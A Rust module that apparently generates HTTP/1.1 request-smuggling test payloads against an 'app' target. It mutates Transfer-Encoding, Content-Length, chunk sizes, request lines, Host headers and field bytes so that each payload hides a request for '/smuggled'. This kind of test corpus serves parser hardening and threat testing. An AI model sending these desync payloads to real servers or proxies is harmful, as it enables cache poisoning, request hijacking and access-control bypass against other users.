//! Framing attacks: lengths, codings, chunks, request lines, hosts, fields and what follows a request.
//!
//! Sources of the tricks: RFC 9112 §11, the write-ups on request smuggling since 2005 (CL.TE, TE.CL, TE.TE, CL.0,
//! 0.CL), and the rows of docs/threats.md. Each payload hides a request for `/smuggled` where it fits.

/// What stands behind a message: a request for one reader, a part of the body for another.
const HIDDEN: &str = "GET /smuggled HTTP/1.1\r\nHost: app\r\n\r\n";

/// Bytes that parsers treat as space, as an end, or not at all.
const ODD: [u8; 16] = [
    0x00, 0x01, 0x04, 0x08, 0x09, 0x0A, 0x0B, 0x0C, 0x0D, 0x1F, 0x20, 0x7F, 0x85, 0xA0, 0xC2, 0xFF,
];

/// Makes payloads for one target.
pub struct Framing<'a> {
    /// The target of the outer request.
    pub target: &'a str,
    /// Whole header lines of it, each with its end; a token, say.
    pub fields: &'a str,
}

impl Framing<'_> {
    /// Every payload.
    pub fn all(&self) -> Vec<Vec<u8>> {
        let mut all = self.codings();
        all.extend(self.lengths());
        all.extend(self.chunks());
        all.extend(self.request_lines());
        all.extend(self.hosts());
        all.extend(self.odd_fields());
        all.extend(self.sequences());
        all
    }

    /// `POST target`, `Host`, the fields, these lines, and all that follows the head.
    fn post(&self, lines: &[u8], rest: &str) -> Vec<u8> {
        let start = format!("POST {} HTTP/1.1\r\nHost: app\r\n{}", self.target, self.fields);
        [start.as_bytes(), lines, b"\r\n", rest.as_bytes()].concat()
    }

    /// Each spelling of a coding, alone, after a length and before one.
    fn codings(&self) -> Vec<Vec<u8>> {
        let mut all = Vec::new();
        let chunked = format!("5\r\nhello\r\n0\r\n\r\n{HIDDEN}");
        let ended = format!("0\r\n\r\n{HIDDEN}");
        for line in coding_lines() {
            all.push(self.post(&line, &chunked));
            all.push(self.post(&[b"Content-Length: 4\r\n", &line[..]].concat(), &ended));
            let length = format!("Content-Length: {}\r\n", ended.len());
            all.push(self.post(&[&line[..], length.as_bytes()].concat(), &ended));
        }
        all
    }

    /// Each spelling of a length, with a request where a shorter one would end.
    fn lengths(&self) -> Vec<Vec<u8>> {
        length_lines().iter().map(|line| self.post(line, HIDDEN)).collect()
    }

    /// Each mutation of a chunked body.
    fn chunks(&self) -> Vec<Vec<u8>> {
        let long = "f".repeat(17);
        let zeros = "0".repeat(17);
        let sizes = [
            "5",
            "05",
            "0x5",
            "0X5",
            "+5",
            "-5",
            " 5",
            "5 ",
            "\t5",
            "5\t",
            "5_",
            "_5",
            "5.0",
            "5e0",
            "5,5",
            "5 5",
            "5\0",
            "\u{b}5",
            "5h",
            "h",
            "",
            "ffffffff",
            "100000005",
            "10000000000000005",
            "fffffffffffffffb",
            "80000000",
            "8000000000000000",
            &long,
            &zeros,
            "5;",
            "5;x",
            "5;x=y",
            "5; x=\"y\"",
            "5;x=\"\r\n\"",
            "5;\n",
            "5;\r",
            "5;x\0",
            "5;x=\u{1}",
            "5\u{a0}",
            "５",
            "0",
            "00",
            "-0",
            "0;x",
            "0 ",
        ];
        let mut all = Vec::new();
        let coded = b"Transfer-Encoding: chunked\r\n";
        for size in sizes {
            all.push(self.post(coded, &format!("{size}\r\nhello\r\n0\r\n\r\n{HIDDEN}")));
        }
        for end in ["\n", "\r", "\r\r\n", "\n\r", "\0\r\n", " \r\n", "\r\n\r\n", "", "\u{2028}"] {
            all.push(self.post(coded, &format!("5{end}hello\r\n0\r\n\r\n{HIDDEN}")));
            all.push(self.post(coded, &format!("5\r\nhello{end}0\r\n\r\n{HIDDEN}")));
            all.push(self.post(coded, &format!("5\r\nhello\r\n0{end}\r\n{HIDDEN}")));
            all.push(self.post(coded, &format!("5\r\nhello\r\n0\r\n{end}{HIDDEN}")));
        }
        for trailer in [
            "X-User-Id: root\r\n",
            "Content-Length: 40\r\n",
            "Transfer-Encoding: chunked\r\n",
            "Host: evil\r\n",
            " folded\r\n",
            "A : b\r\n",
            ": b\r\n",
            "A\r\n",
            "A: b\n",
            "A: \0\r\n",
            "A: b\r\n c\r\n",
            "\0\r\n",
        ] {
            all.push(self.post(coded, &format!("5\r\nhello\r\n0\r\n{trailer}\r\n{HIDDEN}")));
        }
        for cut in
            ["5\r\nhel", "5\r\nhello\r\n", "5\r\nhello\r\n0\r\n", "5\r\nhello", "5", "", "0\r\n\r"]
        {
            all.push(self.post(coded, cut));
        }
        all
    }

    /// Each mutation of the first line.
    fn request_lines(&self) -> Vec<Vec<u8>> {
        let target = self.target;
        let versions = [
            "HTTP/1.0",
            "HTTP/0.9",
            "HTTP/1.2",
            "HTTP/1.10",
            "HTTP/2.0",
            "HTTP/2",
            "HTTP/3",
            "HTTP/11",
            "HTTP/1,1",
            "HTTP/1.1 ",
            " HTTP/1.1",
            "http/1.1",
            "Http/1.1",
            "HTTP /1.1",
            "HTTP/ 1.1",
            "HTTP/1. 1",
            "HTTPS/1.1",
            "HTTP/1.1\t",
            "HTTP/1.1\0",
            "HTTP\\1.1",
            "HTTP/1.1 HTTP/1.1",
            "HTTP/1.١",
            "FTP/1.1",
            "HTTP/-1.1",
            "",
            "HTTP/1.1\r",
            "HTTP/01.1",
            "HTTP/1.01",
            "HTTP/9.9",
            "ICY/1.1",
            "HTTP/1",
            "HTTP/1.",
            "HTTP/.1",
        ];
        let lines = [
            format!("POST  {target} HTTP/1.1"),
            format!("POST\t{target}\tHTTP/1.1"),
            format!(" POST {target} HTTP/1.1"),
            format!("\tPOST {target} HTTP/1.1"),
            format!("POST {target}"),
            format!("{target} HTTP/1.1"),
            "POST HTTP/1.1".to_owned(),
            format!("POST\u{b}{target} HTTP/1.1"),
            format!("POST\0 {target} HTTP/1.1"),
            format!("post {target} HTTP/1.1"),
            format!("P\u{d6}ST {target} HTTP/1.1"),
            format!("PO ST {target} HTTP/1.1"),
            format!("\"POST\" {target} HTTP/1.1"),
            format!("POST/ {target} HTTP/1.1"),
            format!("POST: {target} HTTP/1.1"),
            format!("POST {target}\r\n HTTP/1.1"),
            format!("POST {target} x HTTP/1.1"),
            format!("POST {target}\rHTTP/1.1"),
            format!("POST {target}\0 HTTP/1.1"),
            format!("POST {target}\u{1f} HTTP/1.1"),
            format!("\0POST {target} HTTP/1.1"),
            format!("{} {target} HTTP/1.1", "M".repeat(5000)),
            format!("TRACE {target} HTTP/1.1"),
            "CONNECT app:80 HTTP/1.1".to_owned(),
            format!("CONNECT {target} HTTP/1.1"),
            "PRI * HTTP/2.0".to_owned(),
            "OPTIONS * HTTP/1.1".to_owned(),
            "POST * HTTP/1.1".to_owned(),
            format!("\r\nPOST {target} HTTP/1.1"),
            format!("\r\n\r\nPOST {target} HTTP/1.1"),
            format!("\nPOST {target} HTTP/1.1"),
            format!("\rPOST {target} HTTP/1.1"),
            format!("GET {target} HTTP/1.1\r\nPOST {target} HTTP/1.1"),
            format!("\u{feff}POST {target} HTTP/1.1"),
        ];
        let with = |line: &str| {
            let head = format!("{line}\r\nHost: app\r\n{}Content-Length: 5\r\n\r\n", self.fields);
            format!("{head}hello{HIDDEN}").into_bytes()
        };
        let mut all: Vec<Vec<u8>> =
            versions.iter().map(|version| with(&format!("POST {target} {version}"))).collect();
        all.extend(lines.iter().map(|line| with(line)));
        for line in ["HTTP/1.0", "HTTP/0.9", "HTTP/1.2"] {
            let coded =
                format!("POST {target} {line}\r\nHost: app\r\nTransfer-Encoding: chunked\r\n\r\n");
            all.push(format!("{coded}0\r\n\r\n{HIDDEN}").into_bytes());
        }
        all.push(format!("GET {target}\r\n").into_bytes());
        all.push(format!("GET {target}\n\n").into_bytes());
        all
    }

    /// Each way to name no host, two, or one with a second reading.
    fn hosts(&self) -> Vec<Vec<u8>> {
        let lines = [
            "",
            "Host:\r\n",
            "Host: \r\n",
            "Host: app\r\nHost: app\r\n",
            "Host: app\r\nhost: evil\r\n",
            "Host: app,evil\r\n",
            "Host: app evil\r\n",
            "Host: app/x\r\n",
            "Host: u@app\r\n",
            "Host: app:x\r\n",
            "Host: app:99999\r\n",
            "Host: app:80:80\r\n",
            "Host: app#x\r\n",
            "Host: app?x\r\n",
            "Host: app;for=1.2.3.4\r\n",
            "Host: a\"b\r\n",
            "Host : app\r\n",
            "Host\t: app\r\n",
            " Host: app\r\n",
            "Host: app\r\n evil\r\n",
            "Host: app\0\r\n",
            "Host: ..\r\n",
            "Host: [::1\r\n",
            "Host: [x]\r\n",
            "Host: app\\evil\r\n",
            "Host: http://app\r\n",
            "Host: \u{e4}pp\r\n",
            "Host: a%2fb\r\n",
            "Host: app\rHost: evil\r\n",
            "Host: app\nHost: evil\r\n",
            "X_Host: a\r\nHo_st: app\r\n",
            "Host: app\u{b}\r\n",
            "Host: app \r\n",
            "Host:\tapp\r\n",
            "Host: app.\r\n",
            "HOST: APP:80\r\n",
        ];
        let with = |line: &&str| {
            let head = format!("GET {} HTTP/1.1\r\n{line}{}\r\n", self.target, self.fields);
            format!("{head}{HIDDEN}").into_bytes()
        };
        lines.iter().map(with).collect()
    }

    /// Odd bytes in each place of a field line, and lines that are none.
    fn odd_fields(&self) -> Vec<Vec<u8>> {
        let mut all: Vec<Vec<u8>> = Vec::new();
        for byte in ODD {
            for line in around(b"X-Odd", b"value", byte) {
                all.push(self.post(
                    &[&line[..], b"Content-Length: 5\r\n"].concat(),
                    &format!("hello{HIDDEN}"),
                ));
            }
        }
        for line in [
            "X-A\r\n",
            ": b\r\n",
            " : b\r\n",
            "X-A: b\r\n folded\r\n",
            "X-A: b\r\n\tfolded\r\n",
            " X-A: b\r\n",
            "X-A: b\n",
            "X-A: b\r",
            "X-A: b\n\r\n",
            "X-A: b\r\r\n",
            "X A: b\r\n",
            "X(A): b\r\n",
            "\"X\": b\r\n",
            "X-A;: b\r\n",
            "X-A: \n\nGET /smuggled HTTP/1.1\r\n",
            "X-A: \r\rGET /smuggled HTTP/1.1\r\n",
            "X-\u{e9}: b\r\n",
            "{X}: b\r\n",
        ] {
            all.push(self.post(line.as_bytes(), HIDDEN));
        }
        all
    }

    /// What stands behind, between and instead of requests.
    fn sequences(&self) -> Vec<Vec<u8>> {
        let target = self.target;
        let get = format!("GET {target} HTTP/1.1\r\nHost: app\r\n{}", self.fields);
        let raw = [
            format!("{get}\r\n{get}\r\n{get}Connection: close\r\n\r\n{HIDDEN}"),
            format!("{get}Content-Length: 36\r\n\r\n{HIDDEN}"),
            format!("{get}Content-Length: 5\r\n\r\n{HIDDEN}"),
            format!("{get}Expect: 100-continue\r\nContent-Length: 5\r\n\r\nhello{HIDDEN}"),
            format!(
                "{get}Expect: 100-continue\r\nTransfer-Encoding: chunked\r\n\r\n5\r\nhello\r\n0\r\n\r\n{HIDDEN}"
            ),
            format!(
                "{get}Expect: 100-continue\r\nExpect: x\r\nContent-Length: 5\r\n\r\nhello{HIDDEN}"
            ),
            format!("{get}Expect: 200-ok\r\nContent-Length: 5\r\n\r\nhello{HIDDEN}"),
            format!(
                "{get}Upgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMA\r\n\r\n{HIDDEN}"
            ),
            format!("{get}Upgrade: websocket\r\nConnection: Upgrade\r\n\r\n{HIDDEN}"),
            format!(
                "{get}Upgrade: foo\r\nConnection: upgrade\r\nContent-Length: 5\r\n\r\nhello{HIDDEN}"
            ),
            format!("{get}Connection: close, Content-Length\r\nContent-Length: 36\r\n\r\n{HIDDEN}"),
            format!(
                "{get}Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{HIDDEN}"
            ),
            format!("{get}Connection: Host\r\n\r\n{HIDDEN}"),
            format!("{get}Connection: close\r\n\r\n{HIDDEN}"),
            format!("{get}Trailer: Content-Length\r\nTE: trailers\r\n\r\n{HIDDEN}"),
            format!("{get}\r\n\0\0\0\0{HIDDEN}"),
            format!("{get}\r\nhello{HIDDEN}"),
            format!("{get}\r\n\r\n{HIDDEN}"),
            format!("{get}\r\n\r\n\r\n\r\n{HIDDEN}"),
            format!(
                "HEAD {target} HTTP/1.1\r\nHost: app\r\nContent-Length: 5\r\n\r\nhello{HIDDEN}"
            ),
            format!(
                "DELETE {target} HTTP/1.1\r\nHost: app\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{HIDDEN}"
            ),
            format!("POST {target} HTTP/1.1\r\nHost: app\r\n\r\n{HIDDEN}"),
            "\r\n".repeat(50),
            "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\u{4}\0\0\0\0\0".to_owned(),
            "\u{16}\u{3}\u{1}\u{2}\0\u{1}\0\u{1}fc\u{3}\u{3}".to_owned(),
        ];
        raw.into_iter().map(String::into_bytes).collect()
    }
}

/// A field line with this byte in each place: before the name, inside it, before the colon, after it, inside the
/// value, at its end, and before the next line.
fn around(name: &[u8], value: &[u8], byte: u8) -> [Vec<u8>; 7] {
    let (a, b) = name.split_at(name.len() / 2);
    let (c, d) = value.split_at(value.len() / 2);
    let odd = &[byte][..];
    [
        [odd, name, b": ", value, b"\r\n"].concat(),
        [a, odd, b, b": ", value, b"\r\n"].concat(),
        [name, odd, b": ", value, b"\r\n"].concat(),
        [name, b":", odd, value, b"\r\n"].concat(),
        [name, b": ", c, odd, d, b"\r\n"].concat(),
        [name, b": ", value, odd, b"\r\n"].concat(),
        [b"X: y", odd, name, b": ", value, b"\r\n"].concat(),
    ]
}

fn coding_lines() -> Vec<Vec<u8>> {
    let mut all: Vec<Vec<u8>> =
        ODD.iter().flat_map(|byte| around(b"Transfer-Encoding", b"chunked", *byte)).collect();
    let names = [
        "Transfer-Encoding",
        "transfer-encoding",
        "TRANSFER-ENCODING",
        "Transfer_Encoding",
        "Transfer.Encoding",
    ];
    all.extend(names.iter().map(|name| format!("{name}: chunked\r\n").into_bytes()));
    let values = [
        "Chunked",
        "CHUNKED",
        "chunked, chunked",
        "chunked,",
        ",chunked",
        "chunked;",
        "chunked;q=1",
        "chunked; a=b",
        "\"chunked\"",
        "'chunked'",
        "xchunked",
        "chunkedx",
        "chunk",
        "chunke",
        "identity",
        "identity, chunked",
        "chunked, identity",
        "gzip",
        "gzip, chunked",
        "chunked, gzip",
        "deflate",
        "compress, chunked",
        "cow",
        "",
        "()",
        "chunked chunked",
        "chunked\\",
        "none",
        "chunked\r\nTransfer-Encoding: chunked",
        "chunked\r\nTransfer-Encoding: identity",
        "identity\r\nTransfer-Encoding: chunked",
        "chunked\r\nTransfer-encoding: cow",
        "\r\n chunked",
        "\r\n\tchunked",
        "chunked\r\n ",
        "x\r\n chunked",
        "chunked, , ",
        "%63hunked",
    ];
    all.extend(values.iter().map(|value| format!("Transfer-Encoding: {value}\r\n").into_bytes()));
    let lines = [
        "Transfer-Encoding\r\n: chunked\r\n",
        "Transfer-Encoding\r\n : chunked\r\n",
        "Transfer-Encoding:chunked\r\n",
        "X: x\nTransfer-Encoding: chunked\r\n",
        "X: x\rTransfer-Encoding: chunked\r\n",
        "Foo: bar\r\n\rTransfer-Encoding: chunked\r\n",
        "Transfer Encoding: chunked\r\n",
        "Transfer--Encoding: chunked\r\n",
        "TE: chunked\r\n",
        "Transfer-Encoding : chunked\r\n",
        "Connection: Transfer-Encoding\r\nTransfer-Encoding: chunked\r\n",
        "X-Transfer-Encoding: chunked\r\n",
    ];
    all.extend(lines.iter().map(|line| line.as_bytes().to_vec()));
    all
}

fn length_lines() -> Vec<Vec<u8>> {
    let mut all: Vec<Vec<u8>> =
        ODD.iter().flat_map(|byte| around(b"Content-Length", b"38", *byte)).collect();
    let values = [
        "+5",
        "-5",
        "-0",
        "0x5",
        "5.0",
        "5e0",
        "5,5",
        "5, 5",
        "5,6",
        "5 5",
        "5;",
        "5;x",
        "\"5\"",
        "'5'",
        "5\r\n 5",
        "",
        "abc",
        "5abc",
        "０",
        "99999999999999999999",
        "18446744073709551615",
        "18446744073709551616",
        "9223372036854775808",
        "4294967296",
        "4294967301",
        "2147483648",
        "005",
        "00000000000000000000000005",
        "0",
        "5_0",
        "1 ",
        "5\r\nContent-Length: 5",
        "5\r\nContent-Length: 6",
        "0\r\nContent-Length: 38",
        "38\r\nContent-Length: 0",
        "5\r\nContent_Length: 6",
        "5\r\nContent-Length : 6",
        "5\r\ncontent-length: 38",
        "5\r\n\tContent-Length: 6",
        "5,",
        ",5",
        "5\n",
        "NaN",
        "inf",
        "null",
        "5%30",
    ];
    all.extend(values.iter().map(|value| format!("Content-Length: {value}\r\n").into_bytes()));
    let names = [
        "Content_Length",
        "Content.Length",
        "Content Length",
        "Contentlength",
        "CONTENT-LENGTH",
        "Content-Length ",
        "X-Content-Length",
    ];
    all.extend(names.iter().map(|name| format!("{name}: 38\r\n").into_bytes()));
    all
}
